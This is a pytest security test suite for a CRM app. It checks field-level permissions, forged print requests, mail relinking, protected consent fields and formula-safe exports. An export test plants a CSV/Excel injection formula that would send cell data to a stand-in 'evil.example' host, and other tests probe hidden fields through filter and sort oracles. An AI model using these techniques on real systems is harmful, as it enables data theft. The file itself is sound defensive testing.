"""Fields of a higher level, titles in print, mails and consents: what is not a reader's to see or a writer's to set, over HTTP."""

import json

import frappe
import pytest

from tests.factories import insert, make_contact, make_customer, make_deal
from tests.site.visibility.callers import OVERSEERS, SEEING, people_of_all_kinds

METHOD = "/api/method/"
SECRET = "Zyxwv"
# Who reads partner data, which is of level 1.
READERS = (*OVERSEERS, "CRM Viewer", "CRM Partner Manager")
REP = "CRM Sales Rep"


@pytest.fixture(scope="module")
def people(site):
	yield from people_of_all_kinds()


@pytest.fixture
def callers(api, people):
	return {kind: api(user) for kind, user in people.items()}


@pytest.fixture
def partner(people, committed):
	"""A partner whom a sales rep owns without seeing the partner data."""
	customer = make_customer(
		salesperson=people[REP], relationship="Partner Prospect", partner_url=f"https://{SECRET}.example"
	)
	customer.partner_url = f"https://{SECRET}2.example"
	customer.save(ignore_version=False)
	make_deal(customer=customer.name, deal_owner=people[REP], title="Theirs")
	frappe.db.commit()
	return customer


FILTERS = [
	{"filters": json.dumps([["CRM Customer", "partner_url", "like", "https://z%"]])},
	{"filters": json.dumps([["partner_url", "like", "https://z%"]])},
	{"filters": json.dumps({"partner_url": ["like", "https://z%"]})},
	{"filters": json.dumps([["`tabCRM Customer`.`partner_url`", "like", "https://z%"]])},
	{"filters": json.dumps([["tabCRM Customer.partner_url", "like", "https://z%"]])},
	{"or_filters": json.dumps([["CRM Customer", "partner_url", "like", "https://z%"]])},
	{"order_by": "partner_url desc"},
	{"order_by": "`tabCRM Customer`.`partner_url` asc, name asc"},
	{"group_by": "partner_url"},
]
LISTS = (
	"/api/resource/CRM Customer?",
	"/api/v2/document/CRM Customer?",
	f"{METHOD}frappe.client.get_list?doctype=CRM Customer&",
	f"{METHOD}frappe.client.get_count?doctype=CRM Customer&",
	f"{METHOD}frappe.desk.reportview.get?doctype=CRM Customer&",
	f"{METHOD}frappe.desk.reportview.get_count?doctype=CRM Customer&fields=[]&distinct=0&",
)


@pytest.mark.parametrize("arguments", FILTERS, ids=str)
def test_nobody_filters_or_sorts_by_what_they_do_not_read(callers, partner, arguments):
	for kind, client in callers.items():
		if kind in READERS:
			continue
		for path in LISTS:
			answer = client.get(path, params={"fields": '["name"]', **arguments})
			assert answer.status_code in (403, 417), (kind, path, answer.text)
			assert partner.name not in answer.text


def test_a_deal_is_no_way_to_its_customers_level(callers, partner):
	filters = json.dumps([["customer.partner_url", "like", "https://z%"]])
	for path in ("/api/resource/CRM Sales Deal", f"{METHOD}frappe.client.get_list?doctype=CRM Sales Deal"):
		answer = callers[REP].get(path, params={"filters": filters})
		assert not answer.ok, answer.text


def test_who_reads_the_level_filters_by_it(callers, partner):
	for kind in ("CRM Manager", "CRM Viewer", "CRM Partner Manager"):
		for arguments in FILTERS[:3]:
			answer = callers[kind].get("/api/resource/CRM Customer", params=arguments)
			assert [row["name"] for row in answer.json()["data"]] == [partner.name], (kind, answer.text)


def test_other_filters_and_writing_are_as_before(callers, partner):
	rep = callers[REP]
	filters = json.dumps([["customer_name", "=", "partner_url"], ["industry", "like", "%partner_url%"]])
	assert rep.get("/api/resource/CRM Customer", params={"filters": filters}).json()["data"] == []
	saved = rep.post(
		f"{METHOD}frappe.client.set_value",
		json={
			"doctype": "CRM Customer",
			"name": partner.name,
			"fieldname": "industry",
			"value": "partner_url",
		},
	)
	assert saved.ok, saved.text


def test_history_does_not_tell_what_is_of_a_higher_level(callers, partner):
	arguments = {"doctype": "CRM Customer", "name": partner.name}
	for kind in (REP, "CRM Manager"):
		for method in ("getdoc", "get_docinfo"):
			answer = callers[kind].get(f"{METHOD}frappe.desk.form.load.{method}", params=arguments)
			assert answer.ok, answer.text
			assert (SECRET.lower() in answer.text.lower()) == (kind != REP), (kind, method)
		timeline = callers[kind].get(f"{METHOD}frappe_crm_app.timeline.api.get_timeline", params=arguments)
		assert timeline.ok
		assert kind != REP or SECRET.lower() not in timeline.text.lower()


@pytest.mark.parametrize(
	"doctype", ["CRM Contact Import Row", "CRM Merge", "CRM Stage Change", "ToDo", "CRM Contact", "Event"]
)
def test_print_of_a_forged_record_shows_no_titles(callers, doctype):
	contact = make_contact(first_name=SECRET)
	customer = make_customer(customer_name=f"{SECRET} Ltd")
	frappe.db.commit()
	forged = {
		"doctype": doctype,
		"name": "x",
		"owner": "x",
		"contact": contact.name,
		"customer": customer.name,
		"reference_doctype": "CRM Contact",
		"reference_type": "CRM Contact",
		"reference_name": contact.name,
		"event_participants": [
			{
				"doctype": "Event Participants",
				"reference_doctype": "CRM Contact",
				"reference_docname": contact.name,
			}
		],
		"docstatus": 0,
	}
	for kind, client in callers.items():
		if kind in SEEING:
			continue
		for extra in ({}, {"__islocal": 1}):
			answer = client.post(
				f"{METHOD}frappe.www.printview.get_html_and_style",
				data={"doc": json.dumps({**forged, **extra}), "print_format": "Standard"},
			)
			assert SECRET not in answer.text, kind


def test_a_mail_is_relinked_by_who_reads_it(callers, people):
	own = make_customer(salesperson=people[REP])
	mail = insert("Communication", {"subject": SECRET, "content": SECRET, "sender": "x@example.com"})
	frappe.db.commit()
	for kind, client in callers.items():
		if frappe.has_permission("Communication", "read", mail.name, user=people[kind] or "Guest"):
			continue
		answer = client.post(
			f"{METHOD}frappe.email.relink",
			data={"name": mail.name, "reference_doctype": "CRM Customer", "reference_name": own.name},
		)
		assert answer.status_code == 403, (kind, answer.text)
		assert not frappe.db.get_value("Communication", mail.name, "reference_name"), kind


TOLD = {
	"consent_text": "I agree to everything",
	"consent_on": "2026-01-01 10:00:00",
	"first_touch_on": "2020-01-01 10:00:00",
	"first_page": "https://forged.example",
	"first_referrer": "https://forged.example",
	"first_utm_source": "forged",
}


def test_consent_and_first_touch_are_written_by_no_hand(callers, people):
	for kind, client in {**callers, "Administrator": callers["CRM Admin"]}.items():
		contact = make_contact(contact_owner=people.get(kind) or "Administrator")
		contact.db_set({"consent_text": "As agreed", "first_utm_source": "newsletter"})
		frappe.db.commit()
		before = frappe.db.get_value("CRM Contact", contact.name, list(TOLD))
		document = {**frappe.get_doc("CRM Contact", contact.name).as_dict(convert_dates_to_str=True), **TOLD}
		client.put(f"/api/resource/CRM Contact/{contact.name}", json=TOLD)
		client.put(f"/api/v2/document/CRM Contact/{contact.name}", json=TOLD)
		client.post(f"{METHOD}frappe.client.save", json={"doc": document})
		client.post(
			f"{METHOD}frappe.client.set_value",
			json={"doctype": "CRM Contact", "name": contact.name, "fieldname": TOLD},
		)
		client.post(
			f"{METHOD}frappe.desk.form.save.savedocs",
			data={"doc": json.dumps(document, default=str), "action": "Save"},
		)
		changes = {"doctype": "CRM Contact", "docname": contact.name, **TOLD}
		client.post(f"{METHOD}frappe.client.bulk_update", json={"docs": json.dumps([changes])})
		client.post(
			f"{METHOD}frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs",
			data={
				"doctype": "CRM Contact",
				"docnames": json.dumps([contact.name]),
				"action": "update",
				"data": json.dumps(TOLD),
			},
		)
		assert frappe.db.get_value("CRM Contact", contact.name, list(TOLD)) == before, kind
		made = client.post("/api/resource/CRM Contact", json={"first_name": "Ada", "last_name": kind, **TOLD})
		if made.ok:
			stored = frappe.db.get_value("CRM Contact", made.json()["data"]["name"], list(TOLD))
			assert not any(stored), (kind, stored)


@pytest.mark.parametrize("file_format", ["CSV", "Excel"])
def test_exports_of_our_doctypes_hold_no_formulas(callers, file_format):
	import csv
	import io

	import openpyxl

	formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
	make_contact(first_name=formula, last_name="King", phone="+14155550100")
	frappe.db.commit()
	for quoting in (0, 1, 2):
		answer = callers["CRM Manager"].post(
			f"{METHOD}frappe.desk.reportview.export_query",
			data={
				"doctype": "CRM Contact",
				"fields": json.dumps(["`tabCRM Contact`.`first_name`", "`tabCRM Contact`.`phone`"]),
				"file_format_type": file_format,
				"csv_quoting": quoting,
				"title": "CRM Contact",
			},
		)
		assert answer.ok, answer.text
		if file_format == "CSV":
			rows = list(csv.reader(io.StringIO(answer.content.decode())))
		else:
			sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
			assert not [cell for row in sheet for cell in row if cell.data_type == "f"]
			rows = [[cell.value for cell in row] for row in sheet]
		assert [row[1:3] for row in rows[1:]] == [[f"'{formula}", "+14155550100"]]


def test_exports_of_others_are_as_before(callers):
	todo = insert("ToDo", {"description": "=1+1"})
	frappe.db.set_value("ToDo", todo.name, "description", "=1+1")
	frappe.db.commit()
	arguments = {"doctype": "ToDo", "fields": '["description"]', "file_format_type": "CSV", "title": "ToDo"}
	assert callers["CRM Manager"].post(
		f"{METHOD}frappe.desk.reportview.export_query", data=arguments
	).status_code in (200, 403)


def test_reports_about_ours_hold_no_formulas(callers):
	formula = "=1+1"
	source = insert("CRM Source", {"source_name": formula}).name
	make_contact(source=source)
	frappe.db.commit()
	answer = callers["CRM Manager"].post(
		f"{METHOD}frappe.desk.query_report.export_query",
		data={
			"report_name": "CRM New Contacts by Source",
			"file_format_type": "CSV",
			"filters": "{}",
			"visible_idx": "[0,1,2,3,4,5,6,7,8]",
		},
	)
	assert answer.ok, answer.text
	assert f'"{formula}"' not in answer.text


CALENDAR = {"start": "partner_url", "end": "partner_url", "title": "customer_name"}
CONDITION = [["CRM Customer", "partner_url", "like", "https://z%"]]
CARD = {"document_type": "CRM Customer", "function": "Count"}
CHART = {"chart_type": "Group By", "group_by_type": "Count", "document_type": "CRM Customer"}
_CALENDAR = {"doctype": "CRM Customer", "start": "2020-01-01", "end": "2030-01-01"}
# A level that is counted, sorted by or drawn tells itself by trying.
ORACLES = [
	("frappe.desk.doctype.number_card.number_card.get_result", {"doc": CARD, "filters": json.dumps(CONDITION)}),
	("frappe.desk.calendar.get_events", {**_CALENDAR, "field_map": json.dumps(CALENDAR)}),
	("frappe.desk.form.utils.get_next", {"doctype": "CRM Customer", "value": "", "prev": 0, "sort_field": "partner_url"}),
	("frappe.desk.doctype.dashboard_chart.dashboard_chart.get", {"chart": {**CHART, "group_by_based_on": "partner_url"}, "no_cache": 1}),
	("frappe.desk.reportview.get_stats", {"doctype": "CRM Customer", "stats": '["partner_url"]', "filters": "[]"}),
	("frappe.client.get_list", {"doctype": "CRM Customer", "fields": ["max(partner_url) as x"]}),
]  # fmt: skip


@pytest.mark.parametrize(("method", "arguments"), ORACLES, ids=[method for method, _ in ORACLES])
def test_no_function_counts_or_sorts_by_a_hidden_level(callers, partner, method, arguments):
	if "value" in arguments:
		arguments = {**arguments, "value": partner.name}
	answer = callers[REP].post(METHOD + method, json=arguments)
	assert answer.status_code in (403, 417), answer.text


def test_the_second_api_counts_by_no_hidden_level(callers, partner):
	filters = json.dumps({"partner_url": ["like", "https://z%"]})
	answer = callers[REP].get("/api/v2/doctype/CRM Customer/count", params={"filters": filters})
	assert answer.status_code in (403, 417), answer.text


def test_who_saves_is_not_answered_what_they_do_not_read(callers, partner):
	document = {"doctype": "CRM Customer", "name": partner.name}
	for kind in (REP, "CRM Manager"):
		client = callers[kind]
		read = client.get(f"/api/resource/CRM Customer/{partner.name}").json()["data"]
		change = {**document, "fieldname": "industry", "value": kind}
		method = {"dt": "CRM Customer", "dn": partner.name, "method": "get_title"}
		answers = [
			client.put(f"/api/resource/CRM Customer/{partner.name}", json={"industry": "a"}),
			client.put(f"/api/v2/document/CRM Customer/{partner.name}", json={"industry": "b"}),
			client.post(f"{METHOD}frappe.client.set_value", json=change),
			client.post(f"{METHOD}run_doc_method", json=method),
		]
		for answer in answers:
			told = SECRET.lower() in answer.text.lower()
			assert not told or kind != REP, answer.text
		assert answers[0].ok, answers[0].text
		assert (SECRET.lower() in answers[0].text.lower()) == (kind != REP)
		assert read["name"] == partner.name
	assert frappe.db.get_value("CRM Customer", partner.name, "partner_url")


@pytest.mark.parametrize("fieldname", ["email_opt_out", "messaging_opt_out"])
def test_an_opt_out_is_noted_by_who_changes_a_contact_and_lifted_by_overseers(callers, people, fieldname):
	contact = make_contact(contact_owner=people[REP])
	frappe.db.commit()
	path = f"/api/resource/CRM Contact/{contact.name}"
	assert callers[REP].put(path, json={fieldname: 1}).ok
	for verb, where in (("put", path), ("put", path.replace("/api/resource/", "/api/v2/document/"))):
		assert getattr(callers[REP], verb)(where, json={fieldname: 0}).status_code == 403
	change = {"doctype": "CRM Contact", "name": contact.name, "fieldname": fieldname, "value": 0}
	assert callers[REP].post(f"{METHOD}frappe.client.set_value", json=change).status_code == 403
	assert callers[REP].put(path, json={"job_title": "Boss"}).ok
	assert frappe.db.get_value("CRM Contact", contact.name, fieldname) == 1
	assert callers["CRM Manager"].put(path, json={fieldname: 0}).ok
	assert frappe.db.get_value("CRM Contact", contact.name, fieldname) == 0
